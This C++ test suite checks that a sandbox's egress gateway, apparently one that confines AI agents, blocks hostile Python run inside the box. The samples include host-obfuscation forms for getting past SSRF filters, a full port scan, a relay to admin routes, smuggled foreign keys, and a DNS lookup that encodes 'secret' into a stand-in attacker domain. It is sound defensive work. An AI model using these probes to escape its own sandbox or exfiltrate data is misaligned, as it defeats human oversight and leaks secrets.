// A hostile program in the box against the only way out, with the stand-in's requests and a decoy server's
// connections as witness (attacks.md D1-D6, D10, D11, D14-D17, D22, E6, E10, F32). The decoy listens on the
// host's loopback, where the gateway itself could reach it.
#include <signal.h>
#include <sys/socket.h>

#include <limits>

#include "base/file.h"
#include "base/io.h"
#include "base/text.h"
#include "contract/json.h"
#include "e2e/fixture.h"
#include "e2e/running.h"
#include "unit/egress/tls_vendor.h"

namespace cofferdam::test {
namespace {

using contract::Json;

constexpr const char* kScript = R"({"turns": [{"blocks": [{"text": "hello"}]}]})";

// The child of `parent` whose command line holds `word`.
int child_of(int parent, const std::string& word) {
  for (int pid : processes_with(word)) {
    auto status = read_file("/proc/" + std::to_string(pid) + "/status", 1U << 16U);
    if (status && status->find("PPid:\t" + std::to_string(parent) + "\n") != std::string::npos) return pid;
  }
  ADD_FAILURE() << "no " << word << " below " << parent;
  return std::numeric_limits<int>::max();  // nobody's
}

class Egress : public EndToEnd {
 protected:
  void SetUp() override {
    EndToEnd::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    std::uint16_t port = 0;
    decoy_ = egress::testing::listen_on_loopback(&port);
    ASSERT_TRUE(set_nonblocking(decoy_.get(), true).has_value());
    decoy_port_ = std::to_string(port);
    use_standin(kScript);
  }
  // How often somebody has connected to the decoy since the last call.
  int decoy_hits() {
    int hits = 0;
    while (UniqueFd(::accept4(decoy_.get(), nullptr, nullptr, SOCK_CLOEXEC)).valid()) ++hits;
    return hits;
  }
  // Python in the box, with ask(bytes) -> first line of the gateway's answer; what it leaves in `out` comes
  // back.
  Json in_the_box(const std::string& id, const std::string& acts) {
    outcome_ = world().cofferdam(arguments(id, acts));
    auto text = read_file(world().state() + "/attempts/" + id + "/stdout", 1U << 20U);
    EXPECT_TRUE(text.has_value()) << outcome_.out << outcome_.err;
    auto json = contract::parse_json_lenient(text ? *text : "", 1U << 20U);
    EXPECT_TRUE(json.has_value()) << (text ? *text : "");
    return json ? *std::move(json) : Json();
  }
  std::vector<std::string> arguments(const std::string& id, const std::string& acts) const {
    return {"run",
            "--json",
            "--config",
            world().config(),
            "--agent",
            "command",
            "--egress",
            "anthropic",
            "--model",
            "claude-sonnet-5",
            "--attempt-id",
            id,
            "--",
            "/usr/bin/python3",
            "-c",
            std::string(kPrologue) + "DECOY='127.0.0.1:" + decoy_port_ + "'\n" + acts +
                "\nprint(json.dumps(out))\n"};
  }
  // Every act without a box, as the same user: the control.
  Captured without_a_box(const std::string& acts) const {
    return world().as_user({"/usr/bin/python3", "-c", acts});
  }
  static constexpr const char* kPrologue = R"(
import json, os, socket, sys, threading
out = {}
port = int(os.environ['ANTHROPIC_BASE_URL'].rsplit(':', 1)[1])
BODY = b'{"model":"claude-sonnet-5","max_tokens":10,"messages":[{"role":"user","content":"x"}]}'
def ask(raw, at=None):
    try:
        s = socket.create_connection(('127.0.0.1', at or port), 10)
        s.sendall(raw)
        s.settimeout(20)
        data = b''
        while b'\r\n' not in data:
            more = s.recv(4096)
            if not more: break
            data += more
        return data.split(b'\r\n')[0].decode('latin-1')
    except OSError as e:
        return 'error ' + str(e.errno)
def post(path, fields=b'', body=BODY, host=b'127.0.0.1'):
    return (b'POST ' + path + b' HTTP/1.1\r\nHost: ' + host + b'\r\nContent-Type: application/json\r\n' + fields +
            b'Content-Length: ' + str(len(body)).encode() + b'\r\n\r\n' + body)
)";

  UniqueFd decoy_;
  std::string decoy_port_;
  RunOutcome outcome_;
};

// D2, D3, D4, D10, D22: no form of request makes the gateway go anywhere but to the vendor.
TEST_P(Egress, NoFormOfRequestReachesAnotherHost) {
  if (IsSkipped() || HasFatalFailure()) return;
  const Json out = in_the_box("forms", R"(
d = DECOY.encode()
out['connect'] = ask(b'CONNECT ' + d + b' HTTP/1.1\r\nHost: ' + d + b'\r\n\r\n')
out['absolute'] = ask(b'GET http://' + d + b'/?token=x HTTP/1.1\r\nHost: ' + d + b'\r\n\r\n')
out['absolute post'] = ask(post(b'http://' + d + b'/v1/messages', host=d))
out['authority twice'] = ask(post(b'/v1/messages', b'Host: ' + d + b'\r\n'))
out['forwarded'] = ask(post(b'//' + d + b'/v1/messages'))
for name in ['2130706433', '0x7f000001', '127.1', '0177.0.0.1', '[::ffff:127.0.0.1]', 'localhost.', 'user@127.0.0.1',
             'LOCALHOST', '%31%32%37.0.0.1', 'xn--nxa']:
    target = name.encode() + b':' + d.split(b':')[1]
    out[name] = ask(b'CONNECT ' + target + b' HTTP/1.1\r\nHost: ' + target + b'\r\n\r\n')
out['allowed'] = ask(post(b'/v1/messages'))
)");
  for (const auto& [form, answer] : out.items()) {
    const auto line = answer.get<std::string>();
    if (form == "allowed") {
      EXPECT_NE(line.find(" 200 "), std::string::npos) << "the control: " << line;
    } else {
      EXPECT_TRUE(starts_with(line, "HTTP/1.1 4")) << form << ": " << line;
    }
  }
  EXPECT_EQ(decoy_hits(), 0);
  EXPECT_EQ(asked("/v1/messages").size(), 1U);
  ASSERT_TRUE(outcome_.result.has_value());
  EXPECT_EQ(outcome_.result->egress.denied, out.size() - 1);
  EXPECT_EQ(outcome_.result->egress.requests, 1U);
  (void)without_a_box("import socket\nsocket.create_connection(('127.0.0.1', " + decoy_port_ + "))");
  EXPECT_EQ(decoy_hits(), 1) << "the control";
}

// D1, D11, D14, D16, D17: names, other addresses, IPv6, and every port of the box's own loopback.
TEST_P(Egress, OnlyOnePortAnswersAndNoNameResolves) {
  if (IsSkipped() || HasFatalFailure()) return;
  const std::string acts = R"(
def tcp(address, family=socket.AF_INET):
    s = socket.socket(family); s.settimeout(10)
    failed = s.connect_ex(address)
    # A port that nobody listens on may be the one that was drawn for this very socket: it then talks to itself.
    return failed or (-1 if s.getsockname() == s.getpeername() else 0)
def udp(address):
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', address); return 0
    except OSError as e: return e.errno
def named(name):
    try: socket.getaddrinfo(name, 443); return 'resolved'
    except OSError: return 'unknown'
out['ports'] = [p for p in PORTS if tcp(('127.0.0.1', p)) == 0]
out['v6'] = tcp(('2001:db8::1', 443), socket.AF_INET6)
out['v4'] = tcp(('192.0.2.1', 443))
out['dns'] = udp(('192.0.2.1', 53))
out['name'] = named('c2VjcmV0.attacker.test')
)";
  const Json out = in_the_box("ports", "PORTS = range(1, 65536)\n" + acts + "out['mine'] = port\n");
  EXPECT_EQ(out["ports"], Json::array({out["mine"]}));
  EXPECT_EQ(out["v6"], ENETUNREACH);
  EXPECT_EQ(out["v4"], ENETUNREACH);
  EXPECT_EQ(out["dns"], ENETUNREACH);
  EXPECT_EQ(out["name"], "unknown");
  EXPECT_EQ(decoy_hits(), 0);
  const Captured control = without_a_box("import socket, json\nout = {}\nport = 0\nPORTS = [" + decoy_port_ +
                                         "]\n" + acts + "print(" + decoy_port_ + " in out['ports'])");
  EXPECT_NE(control.out.find("True"), std::string::npos) << control.err;
  EXPECT_GE(decoy_hits(), 1);
}

// D6: who speaks to the gateway is of no importance, only what is said. D15-D17: there is nothing to control.
TEST_P(Egress, ARelayOfTheBoxsOwnAndControlRequestsAreJudgedAlike) {
  if (IsSkipped() || HasFatalFailure()) return;
  const Json out = in_the_box("relay", R"(
listener = socket.socket(); listener.bind(('127.0.0.1', 0)); listener.listen(8)
def pump(a, b):
    try:
        while True:
            data = a.recv(65536)
            if not data: break
            b.sendall(data)
    except OSError: pass
    try: b.shutdown(socket.SHUT_WR)
    except OSError: pass
def serve():
    while True:
        client, _ = listener.accept()
        to = socket.create_connection(('127.0.0.1', port))
        threading.Thread(target=pump, args=(client, to), daemon=True).start()
        threading.Thread(target=pump, args=(to, client), daemon=True).start()
threading.Thread(target=serve, daemon=True).start()
at = listener.getsockname()[1]
d = DECOY.encode()
out['connect'] = ask(b'CONNECT ' + d + b' HTTP/1.1\r\nHost: ' + d + b'\r\n\r\n', at)
for method, path in [(b'GET', b'/'), (b'GET', b'/admin'), (b'POST', b'/mode'), (b'PUT', b'/policy'),
                     (b'POST', b'/reload'), (b'GET', b'/v1/models'), (b'GET', b'/metrics'), (b'TRACE', b'/')]:
    out[(method + b' ' + path).decode()] = ask(method + b' ' + path + b' HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n', at)
out['allowed'] = ask(post(b'/v1/messages'), at)
)");
  for (const auto& [form, answer] : out.items()) {
    const auto line = answer.get<std::string>();
    const bool allowed = form == "allowed";
    EXPECT_TRUE(starts_with(line, allowed ? "HTTP/1.1 200" : "HTTP/1.1 4")) << form << ": " << line;
  }
  EXPECT_EQ(decoy_hits(), 0);
  EXPECT_EQ(standin().requests().size(), 1U);
}

// E6, E10: the whole environment is what the launch says, and a key that the box brings along goes nowhere.
TEST_P(Egress, AForeignKeyIsStrippedAndTheEnvironmentHoldsNone) {
  if (IsSkipped() || HasFatalFailure()) return;
  const Json out = in_the_box("keys", R"(
out['status'] = ask(post(b'/v1/messages', b'x-api-key: sk-ant-foreign\r\nAuthorization: Bearer sk-ant-foreign\r\n'
                         b'Cookie: a=b\r\nProxy-Authorization: Basic Zm9v\r\n'))
out['env'] = dict(os.environ)
)");
  EXPECT_TRUE(starts_with(out["status"].get<std::string>(), "HTTP/1.1 200"));
  const auto seen = asked("/v1/messages");
  ASSERT_EQ(seen.size(), 1U);
  EXPECT_EQ(seen[0]["headers"].value("x-api-key", ""), kTestKey);
  EXPECT_EQ(seen[0].dump().find("sk-ant-foreign"), std::string::npos);
  for (const char* gone : {"authorization", "cookie", "proxy-authorization"}) {
    EXPECT_FALSE(seen[0]["headers"].contains(gone)) << gone;
  }
  EXPECT_EQ(out["env"].value("ANTHROPIC_API_KEY", ""), "sk-ant-api03-placeholder");
  EXPECT_EQ(out["env"].dump().find("SECRET"), std::string::npos);
}

// D5: one policy per attempt, read once: another configuration while it runs changes nothing.
TEST_P(Egress, AConfigurationThatChangesMeanwhileChangesNothing) {
  if (IsSkipped() || HasFatalFailure()) return;
  Running running(world(), arguments("changed", R"(
print('ready', flush=True)
out['answers'] = []
for i in range(20):
    out['answers'].append(ask(post(b'/v1/messages')))
    threading.Event().wait(0.05)
)"));
  Running::wait_for(world().state() + "/attempts/changed/stdout", "ready");
  world().write(world().config(),
                "[vendors.anthropic]\nupstream = \"https://127.0.0.1:" + decoy_port_ + "\"\n");
  RunOutcome outcome = running.finish();
  EXPECT_EQ(outcome.status.code, 0) << outcome.err;
  EXPECT_EQ(asked("/v1/messages").size(), 20U);
  EXPECT_EQ(decoy_hits(), 0);
  // The control: a new attempt does follow it.
  const Json out = in_the_box("after", "out['status'] = ask(post(b'/v1/messages'))\n");
  EXPECT_TRUE(starts_with(out["status"].get<std::string>(), "HTTP/1.1 502")) << out.dump();
  EXPECT_GE(decoy_hits(), 1);
}

// F32: a denial is named to the program, on record, and in the result.
TEST_P(Egress, ADenialIsNamedToTheProgramAndOnRecord) {
  if (IsSkipped() || HasFatalFailure()) return;
  const Json out = in_the_box("named", R"(
import urllib.request, urllib.error
try:
    urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:%d/v1/files' % port, data=b'{}'))
    out['body'] = ''
except urllib.error.HTTPError as e:
    out['code'] = e.code
    out['body'] = e.read().decode()
)");
  EXPECT_EQ(out["code"], 403);
  const auto body = out["body"].get<std::string>();
  EXPECT_NE(body.find("policy"), std::string::npos) << body;
  EXPECT_NE(body.find("route"), std::string::npos) << body;
  ASSERT_TRUE(outcome_.result.has_value());
  EXPECT_EQ(outcome_.result->egress.denied, 1U);
  EXPECT_NE(outcome_.err.find("/v1/files"), std::string::npos) << outcome_.err;
}

// The gateway is the attempt's only witness of what left: without it there is no more of the attempt. The
// broker is not: what it has handed out goes on until it expires.
TEST_P(Egress, TheGatewaysDeathEndsTheAttemptAndTheBrokersDoesNot) {
  if (IsSkipped() || HasFatalFailure()) return;
  const char* acts = "print('ready', flush=True)\nthreading.Event().wait(300)\n";
  Running killed(world(), arguments("killed", acts));
  Running::wait_for(world().state() + "/attempts/killed/stdout", "ready");
  ASSERT_EQ(::kill(child_of(killed.child().pid(), "internal-gateway"), SIGKILL), 0);
  RunOutcome outcome = killed.finish();
  EXPECT_EQ(outcome.status.code, 1) << outcome.err;
  ASSERT_TRUE(outcome.result.has_value());
  EXPECT_EQ(outcome.result->cause.control, "gateway");
  EXPECT_TRUE(outcome.result->settlement.box_gone_at.has_value());
  EXPECT_FALSE(outcome.result->change.ref.has_value());

  Running going_on(world(), arguments("going-on", R"(
print('ready', flush=True)
for i in range(20):
    out['status'] = ask(post(b'/v1/messages'))
)"));
  Running::wait_for(world().state() + "/attempts/going-on/stdout", "ready");
  ASSERT_EQ(::kill(child_of(going_on.child().pid(), "internal-broker"), SIGKILL), 0);
  outcome = going_on.finish();
  EXPECT_EQ(outcome.status.code, 0) << outcome.err;
  EXPECT_EQ(outcome.result->egress.requests, 20U);
}

COFFERDAM_FOR_BOTH_USERS(Egress);

}  // namespace
}  // namespace cofferdam::test
